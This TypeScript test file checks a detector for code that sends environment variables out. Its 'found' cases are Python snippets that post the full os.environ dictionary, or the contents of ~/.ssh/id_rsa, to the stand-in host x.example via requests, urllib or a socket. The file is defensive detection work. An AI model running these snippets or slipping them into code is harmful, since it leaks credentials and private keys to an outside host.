import { checkCases } from "../../testing/check-cases.ts";
import { environmentSent } from "./environment-sent.ts";

checkCases(environmentSent, {
  found: [
    "import os, requests\ndef f():\n    requests.post('https://x.example', json=dict(os.environ))",
    "import os, urllib.request\nfor k, v in os.environ.items():\n    urllib.request.urlopen('https://x.example/?' + k + v)",
    "import os, requests\ndef f():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://x.example', data=key)",
    "import os, socket\ndef f():\n    s = socket.create_connection(('x.example', 1))\n    s.sendall(str(dict(os.environ)).encode())",
    "from urllib.request import urlopen\nimport os, json\nurlopen('https://x.example', json.dumps(dict(os.environ)).encode())",
  ],
  clean: [
    "import os, requests\nrequests.get(os.environ['URL'], timeout=3)",
    "import os, requests, subprocess\ndef f():\n    p = subprocess.Popen(['serve'], env=dict(os.environ))\n    requests.get('http://localhost', timeout=1)",
    "import os\nprint(dict(os.environ))",
    "import os, requests\nif 'TOKEN' in os.environ:\n    requests.get('https://x.example', timeout=3)",
  ],
});
